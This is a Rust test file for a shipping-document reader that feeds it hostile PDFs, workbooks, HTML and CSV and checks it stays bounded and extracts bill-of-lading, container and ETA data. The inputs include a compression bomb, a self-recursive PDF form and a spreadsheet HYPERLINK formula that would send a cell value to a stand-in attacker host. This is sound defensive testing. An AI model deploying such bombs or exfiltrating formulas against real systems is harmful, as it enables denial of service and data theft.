//! Hostile documents: reading each one returns text or a problem, without panics, hangs or excessive memory. The tests generate the
//! files.

use std::io::Write;
use std::sync::LazyLock;
use std::time::Duration;

use flate2::Compression;
use flate2::write::ZlibEncoder;
use shiptrack::documents::find::findings;
use shiptrack::documents::{File, Limits, Problem, Reader, Text, read_text};
use shiptrack_tests::reader;
use shiptrack_tests::sample_files::{cell, pdf_of, workbook, workbook_with};

fn limits() -> Limits {
    Limits { pages: 10, cells: 10_000, text: 1 << 20, time: Duration::from_secs(20) }
}

/// The reader processes of the tests in this file.
static READER: LazyLock<Reader> = LazyLock::new(|| Reader::new(reader::options(16, 512 << 20)));

fn read(name: &str, bytes: &[u8]) -> Result<Option<Text>, Problem> {
    read_within(&limits(), name, bytes)
}

/// Tests with different accounts, because an account has half of the readers, and a test must not wait for another one.
fn read_within(limits: &Limits, name: &str, bytes: &[u8]) -> Result<Option<Text>, Problem> {
    let thread = format!("{:?}", std::thread::current().id());
    read_text(&READER, File { account: &thread, name, content_type: "", bytes }, limits)
}

/// Whether the text of the file was read, or the file was rejected, or its reader ended.
fn is_an_end(result: &Result<Option<Text>, Problem>) -> bool {
    matches!(result, Ok(_) | Err(Problem::Damaged(..) | Problem::BeyondLimits { .. }))
}

pub(super) fn deflated(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// A PDF of one page with this content stream and filter.
pub(super) fn pdf(filter: &str, content: &[u8]) -> Vec<u8> {
    pdf_of(
        &[format!("<< /Length {} {filter} >>\nstream\n", content.len()).as_bytes(), content, b"\nendstream"].concat(),
        "",
    )
}

pub(super) const NOTICE: &[u8] = b"BT /F1 12 Tf 72 720 Td (ARRIVAL NOTICE) Tj 0 -20 Td (B/L No: MAEU123456789) Tj 0 -20 Td (Container MSKU0308961) Tj \
    0 -20 Td (ETA: 14-MAY-2026) Tj ET";

/// Object 4 of a PDF: a form that draws itself twice.
pub(super) const RECURSIVE_FORM: &[u8] =
    b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 4 0 R >> >> /Length 11 >>\nstream\n\
    /X Do /X Do\nendstream";

#[test]
fn a_pdf_is_read_and_findings_have_page_and_line() {
    for file in [
        pdf("", NOTICE),
        pdf("/Filter /FlateDecode", &deflated(NOTICE)),
        pdf("/Filter [/FlateDecode]", &deflated(NOTICE)),
    ] {
        let found = findings(&read("notice.pdf", &file).unwrap().unwrap());
        let bills: Vec<_> =
            found.bills_of_lading.iter().map(|found| (found.value.as_str(), found.place.to_string())).collect();
        assert_eq!(bills, [("MAEU123456789", "page 1, line 2".to_owned())]);
        assert_eq!(found.containers[0].value, "MSKU0308961");
        assert_eq!(found.eta.unwrap().value.to_string(), "2026-05-14");
    }
}

#[test]
fn a_pdf_with_large_or_hidden_streams_is_read_or_rejected() {
    let spaces = vec![b' '; 64 << 20];
    let bomb = deflated(&spaces);
    for file in [
        pdf("/Filter /FlateDecode", &bomb),
        pdf("/Filter [/FlateDecode /FlateDecode]", &deflated(&bomb)),
        pdf("/F /FlateDecode", &bomb),
        pdf("/S (/Filter /DCTDecode) /Filter /FlateDecode", &bomb),
        pdf("/Fil#74er /Fl#61teDecode", &bomb),
        pdf("/Filter 9 0 R", b"no such thing"),
        pdf("/Filter /LZWDecode", b"no such thing"),
    ] {
        let result = read("a.pdf", &file);
        assert!(is_an_end(&result), "{result:?}");
    }
}

#[test]
fn a_damaged_pdf_is_read_or_rejected() {
    let whole = pdf("/Filter /FlateDecode", &deflated(NOTICE));
    for length in (0..whole.len()).step_by(7) {
        let _ = read("a.pdf", &whole[..length]);
    }
    for at in (0..whole.len()).step_by(5) {
        let mut changed = whole.clone();
        changed[at] ^= 0x55;
        let _ = read("a.pdf", &changed);
    }
    let _ = read("a.pdf", &pdf("", &b"[".repeat(200_000)));
    let _ = read("a.pdf", &pdf("", &b"q ".repeat(200_000)));
    let _ = read("a.pdf", &pdf_of(&b"<<".repeat(100_000), ""));
}

#[test]
fn a_recursive_pdf_ends_within_the_time_limit() {
    let limits = Limits { time: Duration::from_secs(2), ..limits() };
    let result = read_within(&limits, "a.pdf", &pdf_of(RECURSIVE_FORM, "/XObject << /X 4 0 R >>"));
    assert!(is_an_end(&result), "{result:?}");
}

/// All glyphs of a page are in memory at once.
#[test]
fn a_page_with_too_many_glyphs_is_truncated() {
    for (glyphs, is_truncated) in [(90_000, false), (300_000, true)] {
        let content = format!("BT /F1 12 Tf 72 720 Td (ETA: 14-MAY-2026) Tj 0 -20 Td ({}) Tj ET", "x".repeat(glyphs));
        let text = read("a.pdf", &pdf("", content.as_bytes())).unwrap().unwrap();
        let length: usize = text.lines.iter().flat_map(|line| &line.0).map(|cell| cell.text.len()).sum();
        assert_eq!((text.is_truncated, length <= 100_000), (is_truncated, true), "{length}");
        assert!(findings(&text).eta.is_some());
    }
}

#[test]
fn a_workbook_is_read_and_its_formulas_are_not_computed() {
    let rows = format!(
        r#"<row r="1">{}{}</row><row r="2">{}{}</row><row r="3"><c r="A3"><f>HYPERLINK("http://evil.example/"&amp;A2)</f><v>7</v></c></row>"#,
        cell("A1", "B/L No"),
        cell("B1", "Container"),
        cell("A2", "HLCU1234567890"),
        cell("B2", "MSKU0308961"),
    );
    let text = read("a.xlsx", &workbook(&rows)).unwrap().unwrap();
    assert!(text.lines.iter().flat_map(|line| &line.0).all(|cell| !cell.text.contains("evil")), "{text:?}");
    let found = findings(&text);
    assert_eq!(found.bills_of_lading[0].value, "HLCU1234567890");
    assert_eq!(found.bills_of_lading[0].place.to_string(), "sheet \"Notice\", row 2, column 1");
    assert_eq!(found.containers[0].value, "MSKU0308961");
}

#[test]
fn large_workbooks_and_distant_cells_are_bounded() {
    let many: String =
        (1..=200_000).map(|row| format!(r#"<row r="{row}">{}</row>"#, cell(&format!("A{row}"), "x"))).collect();
    assert!(read("a.xlsx", &workbook(&many)).unwrap().unwrap().is_truncated);
    let far =
        format!(r#"<row r="1">{}</row><row r="1048576">{}</row>"#, cell("A1", "x"), cell("XFD1048576", "MSKU0308961"));
    assert_eq!(findings(&read("a.xlsx", &workbook(&far)).unwrap().unwrap()).containers.len(), 1);
    let some: String =
        (1..=20_000).map(|row| format!(r#"<row r="{row}">{}</row>"#, cell(&format!("A{row}"), "x"))).collect();
    assert!(read("a.xlsx", &workbook(&some)).unwrap().unwrap().is_truncated);
    let whole = workbook(&some);
    for length in (0..whole.len()).step_by(whole.len() / 50) {
        let result = read("a.xlsx", &whole[..length]);
        assert!(!matches!(result, Ok(Some(_))), "{length}");
    }
}

#[test]
fn cells_that_share_a_long_text_are_bounded() {
    let shared = "x".repeat(400_000);
    let cells: String = (0..2_000).map(|_| r#"<c t="s"><v>0</v></c>"#).collect();
    let others = [(
        "xl/sharedStrings.xml",
        format!(
            r#"<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>{shared}</t></si></sst>"#
        ),
    )];
    let text = read("a.xlsx", &workbook_with(&format!(r#"<row r="1">{cells}</row>"#), "", &others)).unwrap().unwrap();
    assert!(text.is_truncated);
    assert_eq!(text.lines[0].0.len(), 2, "as many as the limit allows");
}

#[test]
fn dates_use_the_epoch_of_the_workbook() {
    let styles = (
        "xl/styles.xml",
        r#"<?xml version="1.0"?><styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cellXfs count="1"><xf numFmtId="14"/></cellXfs></styleSheet>"#.to_owned(),
    );
    // 2026-05-14
    for (properties, serial) in [("", 46_156), (r#"<workbookPr date1904="1"/>"#, 46_156 - 1_462)] {
        let row = format!(r#"<row r="1">{}<c r="B1" s="0"><v>{serial}</v></c></row>"#, cell("A1", "ETA"));
        let file = workbook_with(&row, properties, std::slice::from_ref(&styles));
        let found = findings(&read("a.xlsx", &file).unwrap().unwrap());
        assert_eq!(found.eta.map(|eta| eta.value.to_string()).as_deref(), Some("2026-05-14"), "{properties}");
    }
}

#[test]
fn html_is_read_and_deep_nesting_ends() {
    let page = "<html><head><script>alert('TGHU1643396')</script></head><body><h1>Arrival notice</h1><table><tr><td>B/L No</td>\
        <td>MAEU123456789</td></tr><tr><td>Container</td><td>MSKU0308961</td></tr></table></body></html>";
    let found = findings(&read("a.html", page.as_bytes()).unwrap().unwrap());
    let containers: Vec<&str> = found.containers.iter().map(|found| found.value.as_str()).collect();
    assert_eq!((containers, found.bills_of_lading[0].value.as_str()), (vec!["MSKU0308961"], "MAEU123456789"));
    for tag in ["<div>", "<table><tr><td>", "<b>", "<ul><li>"] {
        let limits = Limits { time: Duration::from_secs(1), ..limits() };
        let result = read_within(&limits, "a.html", tag.repeat(100_000).as_bytes());
        assert!(is_an_end(&result), "{tag}: {result:?}");
    }
    let _ = read("a.html", "<".repeat(1 << 20).as_bytes());
    let _ = read("a.html", "&amp".repeat(1 << 18).as_bytes());
}

/// The text of a page is not many times as large as the page.
#[test]
fn nested_quotations_in_html_are_bounded() {
    let some = format!("{}{}{}", "<blockquote>".repeat(50), "a<br>".repeat(1_000), "</blockquote>".repeat(50));
    let text = read("a.html", some.as_bytes()).unwrap().unwrap();
    assert_eq!((text.lines.len(), text.lines[0].0[0].text.as_str()), (1_000, "a"));
    let list = "<ul><li>B/L No: MAEU123456789<li>ETA: 14 MAY 2026</ul><ol><li>Container MSKU0308961</ol>";
    let found = findings(&read("a.html", list.as_bytes()).unwrap().unwrap());
    assert_eq!((found.bills_of_lading.len(), found.containers.len(), found.eta.is_some()), (1, 1, true));
}

#[test]
fn wide_tables_in_html_end() {
    let (row, column) = ("<td>x".repeat(20_000), "<tr><td>x".repeat(20_000));
    let limits = Limits { cells: 200_000, time: Duration::from_secs(1), ..limits() };
    for page in [
        format!("<table><tr>{row}{column}"),
        format!("<table><tr>{}{column}", "<td rowspan=9999999>x".repeat(1_000)),
        format!("<table>{}", (2..20_000).map(|wide| format!("<tr><td colspan={wide}>x<td>y")).collect::<String>()),
    ] {
        let result = read_within(&limits, "a.html", page.as_bytes());
        assert!(is_an_end(&result), "{result:?}");
    }
}

/// Many headings next to each other and many lines.
#[test]
fn searching_hostile_text_is_bounded() {
    let wide = format!("{}\n", "ETA\t".repeat(3_000)).repeat(60);
    let deep = "B/L No\n".repeat(100_000);
    for hostile in [wide, deep, "a\n".repeat(500_000), "ETA: 05/06/2026  ".repeat(30_000)] {
        let text = read("a.txt", hostile.as_bytes()).unwrap().unwrap();
        assert!(text.lines.iter().map(|line| line.0.len()).sum::<usize>() <= 10_000);
        assert!(findings(&text).is_empty());
    }
}

#[test]
fn csv_is_read_in_all_encodings_and_with_all_separators() {
    let table = "Container,Vessel\nMSKU0308961,MAERSK ESSEX\n";
    let utf_16: Vec<u8> = table.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let marked: Vec<u8> = [&b"\xff\xfe"[..], &utf_16].concat();
    let others = [";", "\t", "|"].map(|separator| table.replace(',', separator).into_bytes());
    for bytes in [table.as_bytes().to_vec(), utf_16, marked].into_iter().chain(others) {
        let found = findings(&read("a.csv", &bytes).unwrap().unwrap());
        assert_eq!(
            (found.containers.len(), found.vessel.map(|vessel| vessel.value)),
            (1, Some("MAERSK ESSEX".to_owned()))
        );
    }
    let wide = read("a.csv", ",x".repeat(200_000).as_bytes()).unwrap().unwrap();
    assert!(wide.is_truncated);
    let _ = read("a.csv", "\"".repeat(1 << 20).as_bytes());
}
